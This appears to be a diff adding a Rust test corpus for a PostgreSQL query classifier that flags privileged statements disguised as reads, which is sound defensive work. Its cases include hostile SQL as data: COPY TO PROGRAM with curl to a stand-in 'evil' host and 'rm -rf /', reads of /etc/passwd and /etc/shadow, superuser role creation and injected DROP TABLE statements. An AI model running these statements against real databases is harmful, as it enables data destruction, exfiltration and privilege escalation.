@@ -1,0 +1,392 @@
+//! The classification corpus: each case is a query string and the class
+//! PostgreSQL's grammar must give it. Most are attempts to pass a
+//! privileged statement off as a read.
+
+use gavel_core::ActionClass::{self, *};
+use gavel_postgres::Classifier;
+
+/// Hand-written cases: (expected class, SQL).
+const CASES: &[(ActionClass, &str)] = &[
+    // Plain reads.
+    (SqlRead, "SELECT 1"),
+    (SqlRead, "select * from customers where id = 42"),
+    (
+        SqlRead,
+        "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
+    ),
+    (
+        SqlRead,
+        "SELECT count(*), max(created_at) FROM orders GROUP BY customer_id HAVING count(*) > 3",
+    ),
+    (
+        SqlRead,
+        "SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id ORDER BY o.total DESC LIMIT 10",
+    ),
+    (
+        SqlRead,
+        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
+    ),
+    (
+        SqlRead,
+        "SELECT lower(email), coalesce(phone, 'n/a') FROM users",
+    ),
+    (SqlRead, "SELECT * FROM generate_series(1, 10) g"),
+    (SqlRead, "SELECT 'DROP TABLE users' AS harmless_text"),
+    (SqlRead, "SELECT $$; DROP TABLE users; $$"),
+    (SqlRead, "SELECT 1 /* ; DROP TABLE users */"),
+    (SqlRead, "SELECT 1 -- ; DROP TABLE users"),
+    (SqlRead, "SELECT E'\\'; DROP TABLE users; --'"),
+    (SqlRead, "SELECT current_user, session_user, current_date"),
+    (SqlRead, "SELECT pg_catalog.lower('X')"),
+    (SqlRead, "SELECT EXISTS (SELECT 1 FROM users WHERE id = 1)"),
+    (
+        SqlRead,
+        "SELECT * FROM users WHERE id IN (SELECT user_id FROM orders)",
+    ),
+    (SqlRead, "SELECT jsonb_build_object('a', 1) ->> 'a'"),
+    (SqlRead, "VALUES (1), (2)"),
+    (SqlRead, "TABLE users"),
+    (SqlRead, "SHOW search_path"),
+    (SqlRead, "BEGIN"),
+    (SqlRead, "COMMIT"),
+    (SqlRead, "ROLLBACK"),
+    (SqlRead, "SAVEPOINT s1"),
+    (SqlRead, "SET statement_timeout = '5s'"),
+    (SqlRead, "SET application_name TO 'agent'"),
+    (SqlRead, "EXPLAIN SELECT * FROM users"),
+    (SqlRead, "LISTEN jobs"),
+    (SqlRead, "DISCARD ALL"),
+    (SqlRead, ""),
+    (SqlRead, ";"),
+    (SqlRead, "SELECT 1; SELECT 2"),
+    (SqlRead, "DECLARE c CURSOR FOR SELECT * FROM users"),
+    (SqlRead, "FETCH 10 FROM c"),
+    (SqlRead, "PREPARE q AS SELECT * FROM users WHERE id = $1"),
+    (SqlRead, "EXECUTE known_read(1)"),
+    // Writes, plain and hidden.
+    (SqlWrite, "INSERT INTO users (email) VALUES ('a@x')"),
+    (SqlWrite, "UPDATE users SET email = 'b@x' WHERE id = 1"),
+    (SqlWrite, "DELETE FROM users WHERE id = 1"),
+    (
+        SqlWrite,
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+    ),
+    (SqlWrite, "TRUNCATE users"),
+    (
+        SqlWrite,
+        "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
+    ),
+    (
+        SqlWrite,
+        "WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM x",
+    ),
+    (
+        SqlWrite,
+        "WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT 1",
+    ),
+    (
+        SqlWrite,
+        "WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING 1) SELECT * FROM a",
+    ),
+    (
+        SqlWrite,
+        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) sub",
+    ),
+    (SqlWrite, "SELECT 1; DELETE FROM users"),
+    (SqlWrite, "select 1;delete from users"),
+    (
+        SqlWrite,
+        "SELECT 1 /* innocent */; UPDATE users SET admin = true",
+    ),
+    (SqlWrite, "SELECT * FROM users FOR UPDATE"),
+    (SqlWrite, "SELECT * FROM users FOR SHARE SKIP LOCKED"),
+    (SqlWrite, "SELECT nextval('users_id_seq')"),
+    (SqlWrite, "SELECT setval('users_id_seq', 1)"),
+    (SqlWrite, "SELECT pg_notify('ch', 'x')"),
+    (SqlWrite, "NOTIFY jobs, 'go'"),
+    (SqlWrite, "EXPLAIN ANALYZE DELETE FROM users"),
+    (SqlWrite, "PREPARE p AS DELETE FROM users WHERE id = $1"),
+    (SqlWrite, "EXECUTE known_write(1)"),
+    (SqlWrite, "COPY users FROM STDIN"),
+    (SqlWrite, "REFRESH MATERIALIZED VIEW stats"),
+    (
+        SqlWrite,
+        "INSERT INTO t SELECT * FROM s ON CONFLICT DO NOTHING",
+    ),
+    // Exports.
+    (SqlExport, "COPY users TO STDOUT"),
+    (
+        SqlExport,
+        "COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)",
+    ),
+    (SqlExport, "copy users to stdout"),
+    // DDL.
+    (SqlDdl, "CREATE TABLE t (id int)"),
+    (SqlDdl, "DROP TABLE users"),
+    (SqlDdl, "DROP TABLE IF EXISTS users CASCADE"),
+    (SqlDdl, "ALTER TABLE users ADD COLUMN x int"),
+    (SqlDdl, "ALTER TABLE users DROP COLUMN email"),
+    (SqlDdl, "CREATE INDEX CONCURRENTLY i ON users (email)"),
+    (SqlDdl, "CREATE VIEW v AS SELECT * FROM users"),
+    (SqlDdl, "CREATE SCHEMA s"),
+    (SqlDdl, "ALTER TABLE users RENAME TO people"),
+    (SqlDdl, "COMMENT ON TABLE users IS 'x'"),
+    (SqlDdl, "SELECT * INTO backup FROM users"),
+    (SqlDdl, "CREATE TABLE copy AS SELECT * FROM users"),
+    (SqlDdl, "CREATE MATERIALIZED VIEW m AS SELECT 1"),
+    (SqlDdl, "CREATE SEQUENCE s"),
+    (SqlDdl, "SELECT 1; DROP TABLE users"),
+    (SqlDdl, "SELECT 1 -- harmless\n; DROP TABLE users"),
+    (SqlDdl, "SELECT 1;\n\n  drop table users;"),
+    (SqlDdl, "DELETE FROM t; DROP TABLE t"),
+    (SqlDdl, "CREATE TYPE mood AS ENUM ('ok')"),
+    (SqlDdl, "ALTER TABLE users ENABLE ROW LEVEL SECURITY"),
+    // DCL.
+    (SqlDcl, "GRANT ALL ON users TO mallory"),
+    (SqlDcl, "REVOKE SELECT ON users FROM analyst"),
+    (SqlDcl, "GRANT admin TO mallory"),
+    (SqlDcl, "CREATE ROLE mallory LOGIN SUPERUSER"),
+    (SqlDcl, "ALTER ROLE mallory WITH PASSWORD 'x'"),
+    (SqlDcl, "ALTER USER mallory SUPERUSER"),
+    (SqlDcl, "DROP ROLE analyst"),
+    (SqlDcl, "SET ROLE admin"),
+    (SqlDcl, "SET LOCAL ROLE admin"),
+    (SqlDcl, "RESET ROLE"),
+    (SqlDcl, "SET SESSION AUTHORIZATION postgres"),
+    (
+        SqlDcl,
+        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO mallory",
+    ),
+    (SqlDcl, "ALTER TABLE users OWNER TO mallory"),
+    (SqlDcl, "CREATE POLICY p ON users USING (true)"),
+    (SqlDcl, "REASSIGN OWNED BY a TO b"),
+    (SqlDcl, "SELECT 1; GRANT ALL ON users TO PUBLIC"),
+    (SqlDcl, "ALTER ROLE analyst SET search_path = public"),
+    // Admin.
+    (SqlAdmin, "ALTER SYSTEM SET fsync = off"),
+    (SqlAdmin, "VACUUM FULL users"),
+    (SqlAdmin, "ANALYZE users"),
+    (SqlAdmin, "LOCK TABLE users IN ACCESS EXCLUSIVE MODE"),
+    (SqlAdmin, "CHECKPOINT"),
+    (SqlAdmin, "LOAD 'evil'"),
+    (SqlAdmin, "CREATE EXTENSION dblink"),
+    (SqlAdmin, "CLUSTER users USING users_pkey"),
+    (SqlAdmin, "REINDEX TABLE users"),
+    (SqlAdmin, "DO $$ BEGIN DELETE FROM users; END $$"),
+    (SqlAdmin, "do 'begin perform 1; end'"),
+    (SqlAdmin, "CALL cleanup()"),
+    (
+        SqlAdmin,
+        "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
+    ),
+    (
+        SqlAdmin,
+        "CREATE OR REPLACE FUNCTION lower(text) RETURNS text AS 'select 1' LANGUAGE sql SECURITY DEFINER",
+    ),
+    (
+        SqlAdmin,
+        "CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()",
+    ),
+    (
+        SqlAdmin,
+        "CREATE RULE r AS ON SELECT TO v DO INSTEAD SELECT 1",
+    ),
+    (SqlAdmin, "CREATE DATABASE other"),
+    (SqlAdmin, "DROP DATABASE prod"),
+    (SqlAdmin, "SET search_path = evil, pg_catalog"),
+    (SqlAdmin, "SELECT set_config('role', 'admin', false)"),
+    (SqlAdmin, "SELECT set_config('search_path', 'evil', false)"),
+    (SqlAdmin, "COPY users TO '/tmp/users.csv'"),
+    (SqlAdmin, "COPY users TO PROGRAM 'curl -d @- http://evil'"),
+    (SqlAdmin, "COPY (SELECT 1) TO PROGRAM 'rm -rf /'"),
+    (SqlAdmin, "COPY users FROM PROGRAM 'id'"),
+    (SqlAdmin, "COPY users FROM '/etc/passwd'"),
+    (
+        SqlAdmin,
+        "SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')",
+    ),
+    (
+        SqlAdmin,
+        "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
+    ),
+    (
+        SqlAdmin,
+        "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')",
+    ),
+    (SqlAdmin, "SELECT lo_export(1234, '/tmp/x')"),
+    (SqlAdmin, "SELECT lo_import('/etc/shadow')"),
+    (SqlAdmin, "SELECT pg_read_file('/etc/passwd')"),
+    (SqlAdmin, "SELECT pg_ls_dir('.')"),
+    (SqlAdmin, "SELECT pg_reload_conf()"),
+    (SqlAdmin, "SELECT pg_advisory_lock(1)"),
+    (SqlAdmin, "SELECT U&\"pg_terminate_\\0062ackend\"(1)"),
+    (SqlAdmin, "SELECT \"pg_terminate_backend\"(1)"),
+    (SqlAdmin, "SELECT PG_TERMINATE_BACKEND(1)"),
+    (SqlAdmin, "SELECT pg_catalog.pg_terminate_backend(1)"),
+    (SqlAdmin, "DELETE FROM t; ALTER SYSTEM SET x = 1"),
+    (
+        SqlAdmin,
+        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
+    ),
+    (
+        SqlAdmin,
+        "CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p",
+    ),
+    // Unknown: fail closed.
+    (SqlUnknown, "SELEC 1"),
+    (SqlUnknown, "SELECT * FROM"),
+    (SqlUnknown, "DROP TABLE users; SELEC"),
+    (SqlUnknown, "SELECT 1; SELECT * FROM users WHERE"),
+    (SqlUnknown, "SELECT my_cleanup()"),
+    (SqlUnknown, "SELECT * FROM users WHERE audit.log_access(id)"),
+    (SqlUnknown, "SELECT public.lower('x')"),
+    (SqlUnknown, "SELECT evil.pg_backend_pid()"),
+    (SqlUnknown, "SELECT txid_current()"),
+    (SqlUnknown, "EXECUTE never_prepared"),
+    (SqlUnknown, "SELECT 1; EXECUTE never_prepared"),
+    (SqlUnknown, "SELECT 1\0; DROP TABLE users"),
+    (SqlUnknown, "VACUUM users; SELECT my_func()"),
+    (SqlUnknown, "\\! rm -rf /"),
+];
+
+/// Functions with side effects, hidden in every place a read can hold an
+/// expression.
+const HIDDEN_CALLS: &[(ActionClass, &str)] = &[
+    (SqlAdmin, "pg_terminate_backend(42)"),
+    (SqlAdmin, "pg_cancel_backend(42)"),
+    (SqlAdmin, "pg_sleep(600)"),
+    (SqlAdmin, "dblink_exec('dbname=prod', 'DROP TABLE users')"),
+    (SqlAdmin, "lo_unlink(1)"),
+    (SqlAdmin, "pg_read_binary_file('/etc/passwd')"),
+    (SqlAdmin, "pg_switch_wal()"),
+    (SqlAdmin, "set_config('role', 'postgres', false)"),
+    (SqlWrite, "nextval('s')"),
+    (SqlUnknown, "sneaky_delete()"),
+];
+
+const POSITIONS: &[&str] = &[
+    "SELECT {f}",
+    "SELECT id FROM users WHERE {f} IS NOT NULL",
+    "SELECT id FROM users ORDER BY {f}",
+    "SELECT (SELECT {f})",
+    "SELECT CASE WHEN true THEN {f} END",
+    "SELECT * FROM users u, LATERAL (SELECT {f}) x",
+    "WITH c AS (SELECT {f}) SELECT * FROM c",
+    "SELECT * FROM (VALUES ({f})) v(x)",
+    "SELECT coalesce(NULL, {f})",
+    "SELECT 1 WHERE EXISTS (SELECT {f})",
+    "SELECT id FROM users GROUP BY id HAVING count({f}) > 0",
+    "SELECT array[{f}]",
+    "SELECT 1; SELECT {f}",
+];
+
+const PRIVILEGED: &[(ActionClass, &str)] = &[
+    (SqlWrite, "DELETE FROM users"),
+    (SqlDdl, "DROP TABLE users"),
+    (SqlDcl, "GRANT ALL ON users TO mallory"),
+    (SqlAdmin, "ALTER SYSTEM SET fsync = off"),
+    (SqlExport, "COPY users TO STDOUT"),
+];
+
+const CAMOUFLAGE: &[&str] = &[
+    "SELECT 1; {s}",
+    "{s}; SELECT 1",
+    "BEGIN; {s}; COMMIT",
+    "SELECT 'x' /* ; */; {s}",
+    "SET application_name = 'report'; {s}",
+    "SELECT 1;\n-- just a comment\n{s};",
+];
+
+fn prepared(name: &str) -> Option<ActionClass> {
+    match name {
+        "known_read" => Some(SqlRead),
+        "known_write" => Some(SqlWrite),
+        _ => None,
+    }
+}
+
+#[test]
+fn the_corpus_classifies_as_postgresql_parses() {
+    let c = Classifier::default();
+    let mut cases: Vec<(ActionClass, String)> =
+        CASES.iter().map(|(k, s)| (*k, (*s).to_owned())).collect();
+    for (class, call) in HIDDEN_CALLS {
+        for position in POSITIONS {
+            cases.push((*class, position.replace("{f}", call)));
+        }
+    }
+    for (class, stmt) in PRIVILEGED {
+        for camo in CAMOUFLAGE {
+            cases.push((*class, camo.replace("{s}", stmt)));
+        }
+    }
+    assert!(cases.len() >= 200, "only {} cases", cases.len());
+    let mut failures = Vec::new();
+    for (expected, sql) in &cases {
+        let got = c.classify(sql, &prepared);
+        if got.class != *expected {
+            failures.push(format!(
+                "{sql:?}: expected {expected}, got {} ({})",
+                got.class, got.reason
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases wrong:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n")
+    );
+    eprintln!("{} classification cases pass", cases.len());
+}
+
+#[test]
+fn tables_and_reasons_are_reported() {
+    let c = Classifier::default();
+    let r = c.classify(
+        "SELECT * FROM public.users u JOIN orders o ON true; DELETE FROM sessions",
+        &prepared,
+    );
+    assert_eq!(r.class, SqlWrite);
+    assert_eq!(
+        r.tables,
+        vec![
+            "orders".to_string(),
+            "public.users".into(),
+            "sessions".into()
+        ]
+    );
+    assert_eq!(r.statements.len(), 2);
+    assert_eq!(r.statements[0].class, SqlRead);
+    assert_eq!(r.statements[1].kind, "DeleteStmt");
+    let r = c.classify("SELECT pg_terminate_backend(1)", &prepared);
+    assert!(
+        r.reason.contains("pg_terminate_backend() has side effects"),
+        "{}",
+        r.reason
+    );
+}
+
+#[test]
+fn configuration_extends_both_lists() {
+    let c = Classifier::new(
+        &[("lower".into(), SqlAdmin)],
+        &["reporting.safe_fn".into(), "my_pure".into()],
+    );
+    assert_eq!(
+        c.classify("SELECT lower('x')", &prepared).class,
+        SqlAdmin,
+        "a configured side effect wins"
+    );
+    assert_eq!(
+        c.classify("SELECT reporting.safe_fn()", &prepared).class,
+        SqlRead
+    );
+    assert_eq!(c.classify("SELECT my_pure()", &prepared).class, SqlRead);
+    assert_eq!(
+        c.classify("SELECT other.my_pure()", &prepared).class,
+        SqlUnknown,
+        "a name elsewhere is not trusted"
+    );
+}
